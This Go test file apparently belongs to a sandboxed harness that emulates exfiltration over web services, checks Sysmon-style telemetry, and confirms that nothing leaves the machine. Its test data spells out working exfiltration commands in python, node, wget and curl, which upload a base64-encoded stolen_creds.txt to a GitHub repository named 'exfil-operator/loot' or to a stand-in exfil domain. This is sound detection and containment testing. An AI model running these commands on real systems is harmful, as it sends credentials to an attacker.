package harness

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/emulator"
	"github.com/t1567001/harness/sandbox"
	"github.com/t1567001/harness/sensor"
)

// putContents is the JSON body of a Contents API upload of stolen_creds.txt,
// built by the shell so that every client sends the same bytes.
const putContents = `printf '{"message":"m","content":"%s"}' "$(base64 -w0 stolen_creds.txt)" > body.json`

// pythonPut uploads with http.client, which knows no proxy, to host; the
// CA variables are removed so that only the system store (bind-mounted in
// the sandbox) can make the handshake succeed.
func pythonPut(host, file string) string {
	return putContents + `
env -u SSL_CERT_FILE -u REQUESTS_CA_BUNDLE -u CURL_CA_BUNDLE python3 -c '
import http.client, ssl, sys
c = http.client.HTTPSConnection("` + host + `", context=ssl.create_default_context(), timeout=20)
c.request("PUT", "/repos/exfil-operator/loot/contents/` + file + `", open("body.json", "rb").read(), {"Authorization": "token ghp_fake", "Content-Type": "application/json"})
r = c.getresponse(); print(r.status); sys.exit(0 if r.status == 201 else 1)'
`
}

// uncooperative are clients that read no proxy variable: each must land at
// the mock in the sandbox and deliver its file intact.
var uncooperative = []struct {
	name, needs, command string
}{
	{"python http.client", "python3", pythonPut("api.github.com", "py.txt")},
	{"python http.client dialling 140.82.112.6", "python3", pythonPut("140.82.112.6", "ip.txt")},
	{"node https", "node", putContents + `
node -e '
const https = require("https"), fs = require("fs");
const r = https.request({host: "api.github.com", path: "/repos/exfil-operator/loot/contents/node.txt", method: "PUT",
  headers: {Authorization: "token ghp_fake", "Content-Type": "application/json", "User-Agent": "node"}},
  res => { console.log(res.statusCode); process.exit(res.statusCode === 201 ? 0 : 1); });
r.on("error", e => { console.error(e.message); process.exit(2); });
r.end(fs.readFileSync("body.json"));'
`},
	{"wget --method=PUT", "wget", putContents + `
wget -q -O- --method=PUT --header='Authorization: token ghp_fake' --header='Content-Type: application/json' \
  --body-file=body.json https://api.github.com/repos/exfil-operator/loot/contents/wget.txt
`},
	{"curl --noproxy", "curl", putContents + `
curl -sS --fail --noproxy '*' -X PUT -H 'Authorization: token ghp_fake' --data-binary @body.json \
  https://api.github.com/repos/exfil-operator/loot/contents/curl.txt
`},
}

// atomicsFile writes an ART file with one sh test per command, each
// staging stolen_creds.txt.
func atomicsFile(t *testing.T, tests map[string]string, order []string) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("attack_technique: T0000\ndisplay_name: sandbox probe\natomic_tests:\n")
	for _, name := range order {
		b.WriteString("- name: " + name + "\n  description: probe\n  supported_platforms: [linux]\n  staged_files: [stolen_creds.txt]\n  executor:\n    name: sh\n    command: |\n")
		for _, line := range strings.Split(strings.TrimRight(tests[name], "\n"), "\n") {
			b.WriteString("      " + line + "\n")
		}
	}
	path := filepath.Join(t.TempDir(), "T0000.yaml")
	require.NoError(t, os.WriteFile(path, []byte(b.String()), 0o600))
	return path
}

func requireSandbox(t *testing.T) {
	t.Helper()
	if err := sandbox.Available(); err != nil {
		t.Skipf("no sandbox on this machine: %v", err)
	}
}

func TestUncooperativeClientsLandAtTheMock(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	tests := map[string]string{}
	var order []string
	for _, c := range uncooperative {
		if _, err := exec.LookPath(c.needs); err != nil {
			t.Run(c.name, func(t *testing.T) { t.Skipf("%s is not installed", c.needs) })
			continue
		}
		tests[c.name] = c.command
		order = append(order, c.name)
	}
	require.NotEmpty(t, order)
	opts := options(t)
	opts.Atomics = atomicsFile(t, tests, order)
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	assert.Equal(t, "on", run.Results.Sandbox)
	want := fixtureSHA(t, "stolen_creds.txt")
	for i, a := range run.Results.Atomics {
		t.Run(a.Name, func(t *testing.T) {
			assert.Equal(t, 0, a.ExitCode, a.Stderr)
			assert.True(t, a.Intact, "stderr: %s", a.Stderr)
			require.Len(t, a.Uploads, 1)
			assert.Equal(t, want, a.Uploads[0].SHA256)
			assert.Equal(t, "api.github.com", a.Uploads[0].Host)
			var req *emulator.Entry
			for _, e := range run.Tests[i].Ledger {
				if e.IsRequest() {
					req = &e
				}
			}
			require.NotNil(t, req)
			assert.Equal(t, "140.82.112.6", req.DestIP, "the address the client dialled")
			assert.Equal(t, 443, req.DestPort)
			if !strings.Contains(a.Name, "140.82.112.6") {
				assert.Contains(t, dnsNames(run.Tests[i].Ledger), "api.github.com", "resolved at the sinkhole")
			}
		})
	}
	assertNothingLeftTheMachine(t, run)
	assertTelemetryFromTheSandbox(t, run)
}

// assertTelemetryFromTheSandbox renders the run under the workstation
// profile: every Sysmon 22 is a query the sinkhole answered, with its
// status and results, and Sysmon 3's DestinationIp is the address dialled.
func assertTelemetryFromTheSandbox(t *testing.T, run *Run) {
	t.Helper()
	profiles, err := Contexts([]string{"workstation"})
	require.NoError(t, err)
	joined := 0
	for _, tr := range run.Tests {
		// The sensor's DNS send and the sinkhole's record meet on the
		// query's client port.
		for _, o := range tr.Observations {
			if o.Kind != sensor.KindDNS || o.LocalPort == 0 {
				continue
			}
			found := false
			for _, e := range tr.Ledger {
				found = found || (e.Kind == emulator.KindDNS && e.ClientPort == o.LocalPort && e.DNS.Name == o.DNSName)
			}
			assert.True(t, found, "%s: query for %s from port %d is in the ledger", tr.Test.Name, o.DNSName, o.LocalPort)
			joined++
		}
	}
	assert.NotZero(t, joined, "queries joined on their client port")
	for _, tr := range run.Tests {
		events, err := run.render(tr, profiles[0], "")
		require.NoError(t, err)
		queries := map[string]*emulator.DNSQuery{}
		for _, e := range tr.Ledger {
			if e.Kind == emulator.KindDNS && (queries[e.DNS.Name] == nil || e.DNS.Type == "A") {
				queries[e.DNS.Name] = e.DNS
			}
		}
		var n22, n3 int
		for _, ev := range events {
			switch ev.EventID {
			case 22:
				n22++
				name, _ := ev.Get("QueryName")
				q := queries[name]
				require.NotNil(t, q, "%s: Sysmon 22 for %s has no query in the ledger", tr.Test.Name, name)
				status, _ := ev.Get("QueryStatus")
				results, _ := ev.Get("QueryResults")
				assert.Equal(t, q.Status(), status)
				assert.Equal(t, q.Results(), results)
				if q.Rcode == "NOERROR" {
					assert.Equal(t, "::ffff:140.82.112.6;", results)
				}
			case 3:
				n3++
				ip, _ := ev.Get("DestinationIp")
				assert.Equal(t, "140.82.112.6", ip, "%s: the address dialled, observed", tr.Test.Name)
			}
		}
		assert.NotZero(t, n3, tr.Test.Name)
		if strings.Contains(tr.Test.Name, "140.82.112.6") {
			assert.Zero(t, n22, "no lookup, no Sysmon 22")
		} else {
			assert.NotZero(t, n22, tr.Test.Name)
		}
	}
}

func dnsNames(ledger []emulator.Entry) []string {
	var names []string
	for _, e := range ledger {
		if e.Kind == emulator.KindDNS {
			names = append(names, e.DNS.Name)
		}
	}
	return names
}

// TestSandboxFailsClosed: a name the mock does not serve, a random name and
// an address outside the table all fail at once inside the sandbox, and
// each attempt is recorded: the names by the sinkhole, the address by the
// sensor. The namespace has no route at all.
func TestSandboxFailsClosed(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	tests := map[string]string{
		"unserved name": "curl -sS --max-time 10 https://example.com/upload --data-binary @stolen_creds.txt",
		"random name":   "curl -sS --max-time 10 https://qz7k1x-9f35.example-exfil.net/ --data-binary @stolen_creds.txt",
		"raw address": `python3 -c '
import socket
s = socket.socket()
s.settimeout(10)
s.connect(("1.1.1.1", 443))'`,
		"no route": `test "$(tail -n +2 /proc/net/route)" = "" && test -z "$(ip -6 route 2>/dev/null | grep -v ^local)" && echo no-route`,
	}
	order := []string{"unserved name", "random name", "raw address", "no route"}
	opts := options(t)
	opts.Atomics = atomicsFile(t, tests, order)
	run, err := RunLocal(context.Background(), opts)
	require.NoError(t, err)
	require.Len(t, run.Results.Atomics, len(order))
	for i, a := range run.Results.Atomics[:3] {
		assert.NotEqual(t, 0, a.ExitCode, a.Name)
		assert.Empty(t, a.Uploads, a.Name)
		assert.Empty(t, a.Requests, a.Name)
		// Each fails at once, not by its 10 s timeout: what says so is the
		// error, not the clock, which a loaded machine stretches.
		assert.NotRegexp(t, `(?i)timed? ?out`, a.Stderr, "%s failed by a timeout", a.Name)
		for _, e := range run.Tests[i].Ledger {
			require.Equal(t, emulator.KindDNS, e.Kind)
			assert.Equal(t, "NXDOMAIN", e.DNS.Rcode, "%+v", e.DNS)
		}
	}
	assert.Contains(t, dnsNames(run.Tests[0].Ledger), "example.com")
	assert.Contains(t, dnsNames(run.Tests[1].Ledger), "qz7k1x-9f35.example-exfil.net")
	var raw []sensor.Observation
	for _, o := range run.Tests[2].Observations {
		if o.Kind == sensor.KindConnect {
			raw = append(raw, o)
		}
	}
	require.Len(t, raw, 1)
	assert.Equal(t, "1.1.1.1", raw[0].RemoteIP)
	assert.Equal(t, 443, raw[0].RemotePort)
	assert.Equal(t, "ENETUNREACH", raw[0].Result)
	assert.Equal(t, 0, run.Results.Atomics[3].ExitCode, run.Results.Atomics[3].Stderr)
	// Every DNS packet the tests sent went to the sinkhole, none to the
	// host's resolver.
	for _, tr := range run.Tests {
		for _, o := range tr.Observations {
			if o.Kind == sensor.KindDNS {
				assert.Equal(t, "127.0.0.53", o.RemoteIP, "%s: %+v", tr.Test.Name, o)
			}
		}
	}
	assertNothingLeftTheMachine(t, run)
}

// taggedProcesses lists the live processes whose environment names a run
// folder under root.
func taggedProcesses(t *testing.T, root string) []string {
	t.Helper()
	var found []string
	procs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, p := range procs {
		env, err := os.ReadFile(p)
		if err == nil && strings.Contains(string(env), RunDirEnv+"="+root) {
			cmd, _ := os.ReadFile(filepath.Join(filepath.Dir(p), "cmdline"))
			found = append(found, filepath.Dir(p)+": "+strings.ReplaceAll(string(cmd), "\x00", " "))
		}
	}
	return found
}

// TestBackgroundChildrenEndWithTheTest: children an atomic leaves behind,
// setsid's too, end when its command does, in the sandbox (PID
// namespace), under the sensor, and without either (the reaper, their
// subreaper).
func TestBackgroundChildrenEndWithTheTest(t *testing.T) {
	const command = "sleep 300 & nohup sleep 301 >/dev/null 2>&1 & setsid sleep 302 & (setsid sh -c 'sleep 303 & sleep 304') & echo started"
	for _, tc := range []struct {
		name               string
		noSandbox, observe bool
	}{
		{"sandbox and sensor", false, true},
		{"sandbox, no sensor", false, false},
		{"sensor, no sandbox", true, true},
		{"neither", true, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !tc.noSandbox {
				requireSandbox(t)
			}
			tmp := t.TempDir()
			t.Setenv("TMPDIR", tmp)
			opts := options(t)
			opts.NoSandbox, opts.Observe, opts.Timeout = tc.noSandbox, tc.observe, 30*time.Second
			opts.Atomics = atomicsFile(t, map[string]string{"leave children": command}, []string{"leave children"})
			opts.Keep = true // the folder stays; its processes must not
			run, err := RunLocal(context.Background(), opts)
			require.NoError(t, err)
			a := run.Results.Atomics[0]
			assert.Equal(t, 0, a.ExitCode, a.Stderr)
			assert.False(t, a.TimedOut)
			assert.Less(t, a.Ended.Sub(a.Started), 10*time.Second)
			assert.Empty(t, taggedProcesses(t, tmp))
		})
	}
}

// inNoRouteNamespace is set when this test binary was re-run inside a
// network namespace of its own that has no interface but a down loopback.
const inNoRouteNamespace = "T1567_TEST_NO_ROUTE"

// TestNothingNeedsTheOutside proves that nothing of a sandboxed run goes
// anywhere outside the machine: the uncooperative clients' run and the
// fail-closed run pass unchanged when the whole harness runs in a network
// namespace with no interface and no route at all.
func TestNothingNeedsTheOutside(t *testing.T) {
	t.Parallel()
	requireSandbox(t)
	if os.Getenv(inNoRouteNamespace) == "1" {
		t.Skip("reason: already inside the no-route namespace (this run is the re-run inside it)")
	}
	unshare, err := exec.LookPath("unshare")
	if err != nil {
		t.Skip("unshare (util-linux) is not installed")
	}
	exe, err := os.Executable()
	require.NoError(t, err)
	cmd := exec.Command(unshare, "--net", "--", exe, "-test.count=1",
		"-test.run", "^(TestUncooperativeClientsLandAtTheMock|TestSandboxFailsClosed)$", "-test.v")
	cmd.Env = append(os.Environ(), inNoRouteNamespace+"=1")
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", out)
	assert.Contains(t, string(out), "--- PASS: TestUncooperativeClientsLandAtTheMock")
	assert.Contains(t, string(out), "--- PASS: TestSandboxFailsClosed")
	assert.NotContains(t, string(out), "--- SKIP")
}

// TestEveryServedHostHasAnAddress: a host the emulator serves must be in
// the sandbox's table (sandbox/addresses.yaml), or its clients could not
// reach it in the sandbox.
func TestEveryServedHostHasAnAddress(t *testing.T) {
	table, err := sandbox.DefaultTable()
	require.NoError(t, err)
	for _, h := range append(emulator.ServedHosts(), emulator.ServedWildcards()...) {
		assert.NotEmpty(t, table.Lookup(h), "%s has no address in sandbox/addresses.yaml", h)
	}
}
